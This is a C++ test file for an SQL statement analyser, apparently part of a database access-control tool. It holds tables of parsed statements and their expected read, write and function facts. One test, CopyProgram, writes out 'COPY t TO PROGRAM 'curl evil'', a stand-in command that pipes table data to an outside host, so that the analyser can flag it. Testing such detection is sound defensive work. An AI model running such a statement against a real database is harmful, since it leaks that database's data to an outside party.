// Facts tables for each statement family: kinds, relations with modes, functions.
#include "case_table.hpp"

namespace airlock::sql::test {
namespace {

class Facts : public testing::TestWithParam<FactsCase> {};
TEST_P(Facts, Match) { check_case(GetParam()); }

const FactsCase kSelect[] = {
    {"simple", "SELECT a FROM t WHERE b = 1", "select", "t:read", ""},
    {"qualified", "SELECT * FROM s.t, db.s2.u", "select", "db.s2.u:read s.t:read", ""},
    {"join", "SELECT * FROM a JOIN b ON a.id = b.id LEFT JOIN c USING (id)", "select",
     "a:read b:read c:read", ""},
    {"subquery_from", "SELECT * FROM (SELECT x FROM inner_t) s", "select", "inner_t:read", ""},
    {"sublink_where", "SELECT 1 WHERE EXISTS (SELECT 1 FROM e) AND 2 IN (SELECT y FROM f)",
     "select", "e:read f:read", ""},
    {"set_operations", "SELECT a FROM x UNION ALL SELECT a FROM y EXCEPT SELECT a FROM z",
     "select", "x:read y:read z:read", ""},
    {"cte_read", "WITH c AS (SELECT * FROM base) SELECT * FROM c", "select",
     "base:read ~c:read", ""},
    {"recursive_cte", "WITH RECURSIVE r(n) AS (SELECT 1 UNION SELECT n+1 FROM r) SELECT * FROM r",
     "select", "~r:read", ""},
    {"functions_everywhere",
     "SELECT lower(a), count(*) OVER (PARTITION BY f1(b)) FROM t WHERE g(c) GROUP BY h(d) "
     "HAVING i(e) > 0 ORDER BY j(f) LIMIT k()",
     "select", "t:read", "count/0 f1/1 g/1 h/1 i/1 j/1 k/0 lower/1"},
    {"sql_syntax_functions", "SELECT extract(year FROM now()), substring('abc' FROM 2)",
     "select", "", "now/0 pg_catalog.extract/2 pg_catalog.substring/2"},
    {"values", "VALUES (1, f(2)), (3, 4)", "select", "", "f/1"},
    {"lateral_function", "SELECT * FROM t, LATERAL unnest(t.arr) u", "select", "t:read",
     "unnest/1@from"},
    {"rows_from", "SELECT * FROM ROWS FROM (generate_series(1,2), g2(3))", "select", "",
     "g2/1@from generate_series/2@from"},
    {"for_update", "SELECT * FROM acct WHERE id = 1 FOR UPDATE", "select",
     "acct:lock acct:read", ""},
    {"case_coalesce", "SELECT CASE WHEN f(a) THEN g(b) ELSE COALESCE(h(c), 0) END FROM t",
     "select", "t:read", "f/1 g/1 h/1"},
    {"array_sublink", "SELECT ARRAY(SELECT id FROM arr_t)", "select", "arr_t:read", ""},
    {"typecast_regclass", "SELECT 'secret'::regclass, CAST(f(1) AS text)", "select", "", "f/1"},
    {"tablesample", "SELECT * FROM big TABLESAMPLE SYSTEM (10)", "select", "big:read", ""},
};
INSTANTIATE_TEST_SUITE_P(Select, Facts, testing::ValuesIn(kSelect), case_name);

const FactsCase kModify[] = {
    {"insert_values", "INSERT INTO t (a) VALUES (f(1))", "insert", "t:insert", "f/1"},
    {"insert_select", "INSERT INTO t SELECT * FROM s", "insert", "s:read t:insert", ""},
    {"insert_on_conflict_update",
     "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET v = excluded.v", "insert",
     "t:insert t:update", ""},
    {"insert_on_conflict_nothing", "INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING", "insert",
     "t:insert", ""},
    {"update_from", "UPDATE t SET a = s.a FROM s WHERE t.id = s.id", "update",
     "s:read t:update", ""},
    {"update_subquery", "UPDATE t SET a = (SELECT max(b) FROM u)", "update", "t:update u:read",
     "max/1"},
    {"delete_using", "DELETE FROM t USING u WHERE t.id = u.id RETURNING t.*", "delete",
     "t:delete u:read", ""},
    {"merge",
     "MERGE INTO tgt USING src ON tgt.id = src.id WHEN MATCHED THEN UPDATE SET v = src.v "
     "WHEN NOT MATCHED THEN INSERT VALUES (src.id, src.v)",
     "merge", "src:read tgt:insert tgt:read tgt:update", ""},
    {"merge_delete", "MERGE INTO tgt USING src ON true WHEN MATCHED THEN DELETE", "merge",
     "src:read tgt:delete tgt:read", ""},
    {"copy_from", "COPY t FROM STDIN", "copy", "t:copy", ""},
    {"copy_to", "COPY t TO STDOUT", "copy", "t:read", ""},
    {"copy_query", "COPY (SELECT * FROM t) TO STDOUT", "copy", "t:read", ""},
    {"truncate", "TRUNCATE a, b", "truncate", "a:truncate b:truncate", ""},
    {"lock", "LOCK TABLE a IN EXCLUSIVE MODE", "lock", "a:lock", ""},
    {"call", "CALL s.proc(1, f(2))", "call", "", "f/1 s.proc/2@call"},
};
INSTANTIATE_TEST_SUITE_P(Modify, Facts, testing::ValuesIn(kModify), case_name);

const FactsCase kDdl[] = {
    {"create_table_default_check",
     "CREATE TABLE t (a int DEFAULT f(), b int CHECK (g(b) > 0), c int REFERENCES r(id))", "ddl",
     "r:read t:ddl", "f/0@ddl g/1@ddl"},
    {"create_table_as", "CREATE TABLE n AS SELECT * FROM o", "ddl", "n:ddl o:read", ""},
    {"create_view", "CREATE VIEW v AS SELECT f(x) FROM o", "ddl", "o:read v:ddl", "f/1@ddl"},
    {"create_index", "CREATE INDEX i ON t (lower(name)) WHERE g(x)", "ddl", "t:ddl",
     "g/1@ddl lower/1@ddl"},
    {"alter_add_column", "ALTER TABLE t ADD COLUMN c int DEFAULT f()", "ddl", "t:ddl", "f/0@ddl"},
    {"drop_tables", "DROP TABLE a, s.b CASCADE", "ddl", "a:ddl s.b:ddl", ""},
    {"drop_schema", "DROP SCHEMA public CASCADE", "ddl", "", ""},
    {"create_function_default",
     "CREATE FUNCTION f(a int DEFAULT g()) RETURNS int LANGUAGE sql AS 'select 1'", "ddl", "",
     "g/0@ddl"},
    {"create_function_atomic",
     "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT count(*) FROM s; END",
     "ddl", "s:read", "count/0@ddl"},
    {"create_rule", "CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM audit", "ddl",
     "audit:delete t:ddl", ""},
    {"create_trigger",
     "CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION trg()", "ddl",
     "t:ddl", "trg/0@ddl"},
    {"create_extension", "CREATE EXTENSION dblink", "ddl", "", ""},
    {"grant", "GRANT SELECT ON t TO bob", "grant", "t:ddl", ""},
    {"vacuum", "VACUUM ANALYZE t", "vacuum", "t:ddl", ""},
};
INSTANTIATE_TEST_SUITE_P(Ddl, Facts, testing::ValuesIn(kDdl), case_name);

const FactsCase kUtility[] = {
    {"begin", "BEGIN", "transaction_control", "", ""},
    {"set", "SET search_path = a, b", "set", "", ""},
    {"reset_all", "RESET ALL", "reset", "", ""},
    {"show", "SHOW work_mem", "show", "", ""},
    {"listen_notify", "LISTEN c; NOTIFY c, 'x'; UNLISTEN *", "listen;notify;unlisten", "", ""},
    {"fetch_close", "FETCH 10 FROM c; CLOSE c", "fetch;close_portal", "", ""},
    {"discard", "DISCARD ALL", "discard", "", ""},
    {"do_block", "DO $$BEGIN PERFORM 1; END$$", "do", "", ""},
    {"two_phase", "PREPARE TRANSACTION 'g1'; COMMIT PREPARED 'g1'", "two_phase;two_phase", "",
     ""},
    {"checkpoint", "CHECKPOINT", "checkpoint", "", ""},
};
INSTANTIATE_TEST_SUITE_P(Utility, Facts, testing::ValuesIn(kUtility), case_name);

TEST(AnalyzeFlags, TransactionModes) {
  const Analysis a = analyze("BEGIN READ ONLY; START TRANSACTION ISOLATION LEVEL SERIALIZABLE, "
                             "READ WRITE; ROLLBACK TO SAVEPOINT s1; COMMIT AND CHAIN");
  ASSERT_TRUE(a.ok()) << describe(a);
  ASSERT_EQ(a.statements.size(), 4u);
  EXPECT_EQ(a.statements[0].transaction->op, TransactionOp::Begin);
  EXPECT_EQ(a.statements[0].transaction->read_only, true);
  EXPECT_EQ(a.statements[1].transaction->op, TransactionOp::Start);
  EXPECT_EQ(a.statements[1].transaction->read_only, false);
  EXPECT_EQ(a.statements[1].transaction->isolation, "serializable");
  EXPECT_EQ(a.statements[2].transaction->op, TransactionOp::RollbackTo);
  EXPECT_EQ(a.statements[2].transaction->name, "s1");
  EXPECT_TRUE(a.statements[3].transaction->chain);
}

TEST(AnalyzeFlags, SetTransactionReadWriteIsAReadOnlyChange) {
  for (const char* sql : {"SET TRANSACTION READ WRITE",
                          "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE"}) {
    const Analysis a = analyze(sql);
    ASSERT_TRUE(a.ok()) << describe(a);
    ASSERT_EQ(a.statements[0].settings.size(), 1u) << sql;
    EXPECT_EQ(a.statements[0].settings[0].name, "transaction_read_only");
    EXPECT_EQ(a.statements[0].settings[0].value, "false");
  }
}

TEST(AnalyzeFlags, SetValues) {
  const Analysis a = analyze("SET LOCAL statement_timeout = '5s'; SET search_path TO a, \"B\"");
  ASSERT_TRUE(a.ok()) << describe(a);
  EXPECT_EQ(a.statements[0].settings[0].name, "statement_timeout");
  EXPECT_EQ(a.statements[0].settings[0].value, "5s");
  EXPECT_EQ(a.statements[0].settings[0].scope, SettingScope::Local);
  EXPECT_EQ(a.statements[1].settings[0].value, "a, B");
}

TEST(AnalyzeFlags, CopyProgram) {
  const Analysis a = analyze("COPY t TO PROGRAM 'curl evil'");
  ASSERT_TRUE(a.ok()) << describe(a);
  ASSERT_TRUE(a.statements[0].copy.has_value());
  EXPECT_TRUE(a.statements[0].copy->is_program);
  EXPECT_EQ(a.statements[0].copy->target, "curl evil");
}

TEST(AnalyzeFlags, StatementRanges) {
  const std::string sql = "SELECT 1;  /* c */ DELETE FROM t ;SELECT 2";
  const Analysis a = analyze(sql);
  ASSERT_EQ(a.statements.size(), 3u) << describe(a);
  EXPECT_EQ(sql.substr(a.statements[0].text_offset, a.statements[0].text_length), "SELECT 1");
  EXPECT_EQ(sql.substr(a.statements[1].text_offset, a.statements[1].text_length),
            "  /* c */ DELETE FROM t ");
  EXPECT_EQ(sql.substr(a.statements[2].text_offset, a.statements[2].text_length), "SELECT 2");
}

TEST(AnalyzeFlags, EmptyTextHasNoStatements) {
  for (const char* sql : {"", " ", ";", "-- only a comment"}) {
    const Analysis a = analyze(sql);
    EXPECT_TRUE(a.ok()) << sql;
    EXPECT_TRUE(a.statements.empty()) << sql;
  }
}

}  // namespace
}  // namespace airlock::sql::test
